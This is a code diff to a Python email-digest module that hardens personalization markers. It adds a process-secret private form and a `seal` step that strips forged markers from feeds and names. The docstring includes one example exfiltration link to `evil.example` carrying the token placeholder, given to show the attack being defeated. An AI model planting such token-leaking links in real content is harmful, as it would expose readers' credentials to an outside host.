@@ -7,21 +7,35 @@ for one reader: their name (HTML-escaped in the HTML part) and every date in the
 reader without a name gets no greeting line at all. `public_copy` is what the web copy shows: no
 greeting, dates in the list's zone.
 
-Markers are plain word tokens, like the token placeholder: premailer leaves them alone in text, and
-the text part's word wrapping keeps each one whole.
+Markers are plain word tokens, like the token placeholder (`TOKEN_PLACEHOLDER`, which the sender
+fills with the reader's token): premailer leaves them alone in text, and the text part's word
+wrapping keeps each one whole.
+
+Only this service may place a marker. Templates are given `private` forms, which carry a secret
+drawn when the process starts; `seal`, run on every rendered body, first deletes every public-looking
+marker (whatever a feed, a pushed article or an operator's setting wrote) and only then turns the
+private forms into public ones. So a feed linking to `https://evil.example/?u=__DIGEST_TOKEN__`
+gets `https://evil.example/?u=`, never a reader's token, name or zone.
 """
 
 from __future__ import annotations
 
 import html
 import re
+import secrets
 from datetime import UTC, date, datetime
 from functools import lru_cache
 from zoneinfo import ZoneInfo
 
 from digest.display_text import clean, long_date, short_date, shorten
 
+# Not a secret: a marker the sender replaces with each reader's token after rendering.
+TOKEN_PLACEHOLDER = "__DIGEST_TOKEN__"  # noqa: S105
 NAME_MARKER = "__DIGEST_NAME__"
+
+# Markers as rendered content may hold them before `seal`: never seen outside this process.
+_PRIVATE = f"__DIGEST_{secrets.token_hex(16)}_"
+_PUBLIC = re.compile(r"__DIGEST_(?:TOKEN|NAME|DATE_[LS]-?\d{1,12})__")
 
 # The longest name a greeting shows, and the most bytes it can take once HTML-escaped (an
 # ampersand becomes five characters; a UTF-8 character takes up to four bytes).
@@ -43,12 +57,30 @@ def date_marker(when: datetime, style: str) -> str:
     return f"__DIGEST_DATE_{style}{int(when.timestamp())}__"
 
 
+def private(marker: str) -> str:
+    """The form of a marker that templates are given, which no content can forge."""
+    return _PRIVATE + marker.removeprefix("__DIGEST_")
+
+
+def seal(body: str) -> str:
+    """A rendered body whose only markers are those this service placed (see the module doc)."""
+    return _unmarked(body).replace(_PRIVATE, "__DIGEST_")
+
+
+def _unmarked(text: str) -> str:
+    while True:  # until none is left: deleting one can join its neighbours into another
+        text, found = _PUBLIC.subn("", text)
+        if not found:
+            return text
+
+
 def has_markers(body: str) -> bool:
     return NAME_MARKER in body or "__DIGEST_DATE_" in body
 
 
 def display_name(name: str) -> str:
-    return shorten(clean(name), NAME_MAX)
+    # Filled in after `seal`, so a name must not bring a marker (the token's) of its own.
+    return _unmarked(shorten(clean(name), NAME_MAX))
 
 
 def for_reader(text: str, html_body: str, *, name: str, zone: str) -> tuple[str, str]:
